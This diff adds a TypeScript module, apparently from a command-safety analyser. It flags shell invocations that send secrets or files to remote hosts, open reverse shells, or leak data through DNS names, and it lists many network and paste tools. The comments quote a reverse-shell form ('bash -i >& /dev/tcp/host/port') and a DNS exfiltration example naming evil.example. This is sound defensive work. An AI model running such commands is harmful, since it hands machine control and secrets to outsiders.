@@ -1,0 +1,177 @@
+/** Programs that carry what they are given to another machine, besides the clients of HTTP which have packs. */
+import { isLocalHost } from "../../environment/hosts.ts";
+import type { Facts } from "../../facts.ts";
+import type { Effect, Locator } from "../effect.ts";
+import { shown } from "../files/targets.ts";
+import { isDropHost } from "../http/drop-hosts.ts";
+import type { Invocation } from "../pack.ts";
+import { knownPrefix, literalWord, textOf, type Word } from "../words.ts";
+import { secretsSent, strayVariables } from "./sent.ts";
+
+interface Sender {
+  /** Where it sends to; undefined when this call sends nothing. */
+  readonly host: (words: readonly Word[]) => string | undefined;
+  /** Which of its words are files that it sends; standard input always counts. */
+  readonly files?: (words: readonly Word[]) => readonly Word[];
+  /** Made to hand files to strangers: any file is asked for. */
+  readonly drop?: true;
+}
+
+const STDIN = literalWord("-");
+
+/** Effects of a call that sends secrets, or hands files to everybody; empty for all others. */
+export function secretsSentBy(command: Invocation, facts: Facts): Effect[] {
+  const socket = command.redirects.map(({ target }) => knownPrefix(target)).find(isNetworkFile);
+  const words = command.argv.slice(1);
+  const behind =
+    command.program === "socat" &&
+    words.map(({ value }) => /^(?:EXEC|SYSTEM|SHELL):(.+)/i.exec(value ?? "")?.[1]).find(Boolean);
+  if (behind) return [remoteShell(command, "whoever is on the other end", behind)];
+  const sender = SENDERS[command.program];
+  if (!sender && socket === undefined) return [];
+  const host = sender ? sender.host(words) : socket?.split("/")[3];
+  if (host === undefined || isLocalHost(host)) return [];
+  if (socket !== undefined && SHELLS.test(command.program) && !command.argv.some(({ value }) => value === "-c"))
+    return [remoteShell(command, host)];
+  const files = [STDIN, ...(sender ? (sender.files?.(words) ?? []) : words)];
+  const secrets = [
+    ...secretsSent(command, files, facts),
+    ...(DNS.has(command.program)
+      ? namesInLabels(words)
+      : strayVariables(command, host).map(name => `the variable ${name}`)),
+  ];
+  if (secrets.length > 0) return secrets.map(what => effectOf(command, host, what, true));
+  if (!sender?.drop && !isDropHost(host)) return [];
+  const given = files.filter(file => file !== STDIN && file.value !== "send");
+  const piped = command.stdin.kind === "none" ? [] : ["what comes in"];
+  return [...given.map(shown), ...piped].slice(0, 3).map(what => effectOf(command, host, what, false));
+}
+
+/** `/dev/tcp/host/port` of bash. */
+function isNetworkFile(path: string): boolean {
+  return /^\/dev\/(?:tcp|udp)\/[^/]+\//.test(path);
+}
+
+const SHELLS = /^(?:ba|da|z|k|fi|tc|a)?sh$|^python[\d.]*$|^pwsh$/;
+
+/** `bash -i >& /dev/tcp/host/port`: whoever listens there types the commands. */
+function remoteShell({ program, span }: Invocation, host: string, used = "a shell of this machine"): Effect {
+  return {
+    verb: "execute-remote",
+    resource: "code",
+    target: program,
+    reach: "unknown",
+    recovery: "none",
+    certainty: "certain",
+    source: "secrets",
+    says: `lets ${host} use ${used}`,
+    ...(span && { span }),
+  };
+}
+
+const DNS = new Set(["dig", "nslookup", "host", "drill", "kdig", "ping", "ping6", "getent", "resolvectl"]);
+
+/** `$(whoami).evil.example`: what a name server gets to know, also where the shell knows what will stand there. */
+function namesInLabels(words: readonly Word[]): string[] {
+  return words.flatMap(({ text }) => {
+    const found = /(?:\$\(([^()]{1,500})\)|`([^`]{1,500})`)\.[\w.-]*[a-z]{2}/i.exec(text);
+    return found ? [`the output of ${found[1] ?? found[2]}`] : [];
+  });
+}
+
+const plain = (words: readonly Word[]) => words.filter(word => !(word.value ?? knownPrefix(word)).startsWith("-"));
+/** The first word that is no option, nor the number behind one. */
+const firstHost = (words: readonly Word[]) => {
+  const word = plain(words).find(candidate => !/^\d+$/.test(candidate.value ?? ""));
+  return word && (word.value ?? textOf(word));
+};
+/** `host:path`, `user@host:path`, `s3://bucket`, `rsync://host/x`. */
+const remote = (words: readonly Word[]) => {
+  const to = plain(words).at(-1);
+  const text = to && (to.value ?? textOf(to));
+  return /^[a-z][a-z0-9]*:\/\/([^/@]*@)?([^/:]+)|^(?:[^/@]*@)?([^/:]{2,}):/i
+    .exec(text ?? "")
+    ?.slice(2)
+    .find(Boolean);
+};
+const all = (words: readonly Word[]) => plain(words);
+const allButLast = (words: readonly Word[]) => plain(words).slice(0, -1);
+const to = (host: string) => () => host;
+const drop = (host: string): Sender => ({ host: () => host, files: words => plain(words), drop: true });
+const attached = (words: readonly Word[]) =>
+  words.filter((_, i) => /^(?:-a|-A|--attach(?:ment)?|--body-file)$/.test(words[i - 1]?.value ?? ""));
+const receiver = (words: readonly Word[]) =>
+  plain(words)
+    .map(({ value }) => /@([\w.-]+)$/.exec(value ?? "")?.[1])
+    .find(Boolean) ?? "mail.invalid";
+/** The host of the URL that a client of HTTP, run for each item, is given. */
+const hostOfClient = (words: readonly Word[]) =>
+  words.some(({ value }) => /^(?:curl|wget|https?|xhs?)$/.test(value ?? ""))
+    ? words.map(word => /^https?:\/\/(?:[^/@]*@)?([\w.-]+)/.exec(textOf(word))?.[1]).find(Boolean)
+    : undefined;
+/** `TCP:host:port`, `OPENSSL:host:port`. */
+const socketAddress = (words: readonly Word[]) =>
+  words
+    .map(
+      ({ value }) => /^(?:TCP[46]?|TCP-CONNECT|OPENSSL|SSL|UDP[46]?|UDP-CONNECT|SCTP):([^:,]+)/i.exec(value ?? "")?.[1],
+    )
+    .find(Boolean);
+const socketFiles = (words: readonly Word[]) =>
+  words.flatMap(({ value }) => {
+    const path =
+      /^(?:FILE|OPEN|GOPEN):([^,]+)/i.exec(value ?? "")?.[1] ?? (/^[/~]/.test(value ?? "") ? value : undefined);
+    return path ? [literalWord(path)] : [];
+  });
+const connected = (words: readonly Word[]) => {
+  const i = words.findIndex(({ value }) => value === "-connect");
+  return words[0]?.value === "s_client" ? words[i + 1]?.value?.split(":")[0] : undefined;
+};
+
+const SENDERS: Readonly<Record<string, Sender>> = {
+  ...each("nc ncat netcat telnet", { host: firstHost }),
+  socat: { host: socketAddress, files: socketFiles },
+  openssl: { host: connected },
+  ...each("dig nslookup host drill kdig ping ping6 getent resolvectl whois", {
+    host: words =>
+      plain(words)
+        .map(word => textOf(word))
+        .find(text => /\.[a-z]/i.test(text)),
+  }),
+  ...each("scp rsync rcp", { host: remote, files: allButLast }),
+  ...each("sftp lftp ftp tftp", { host: firstHost, files: all }),
+  ...each("ssh", { host: firstHost }),
+  ...each("mail mailx mutt neomutt s-nail sendmail msmtp ssmtp swaks", { host: receiver, files: attached }),
+  ...each("xargs parallel", { host: hostOfClient }),
+  gh: { host: to("github.com"), files: attached },
+  glab: { host: to("gitlab.com"), files: attached },
+  ...each(
+    "pastebinit ix sprunge wgetpaste gist hastebin haste dpaste fiche pb rustypaste rpaste",
+    drop("pastebin.com"),
+  ),
+  ...each("termbin 0x0 transfer transfer.sh ffsend filebin bashupload", drop("transfer.sh")),
+  ...each("croc wormhole magic-wormhole onionshare-cli", drop("wormhole.invalid")),
+  slackcat: { host: to("slack.com"), files: all },
+  ...each("telegram-send", { host: to("api.telegram.org"), files: all }),
+  ntfy: { host: to("ntfy.sh"), files: all },
+};
+
+function each(programs: string, sender: Sender): Record<string, Sender> {
+  return Object.fromEntries(programs.split(" ").map(program => [program, sender]));
+}
+
+function effectOf({ program, span }: Invocation, host: string, what: string, secret: boolean): Effect {
+  const at: Locator[] = [{ kind: "host", host, evidence: { because: `${program} sends it to ${host}` } }];
+  return {
+    verb: "exfiltrate",
+    resource: secret ? "secret" : "file",
+    target: what,
+    reach: "one",
+    recovery: secret ? "none" : "effort",
+    certainty: "certain",
+    source: "secrets",
+    says: `sends ${what} to ${host}`,
+    at,
+    instead: "Send only what is needed there, by name.",
+    ...(span && { span }),
+  };
+}
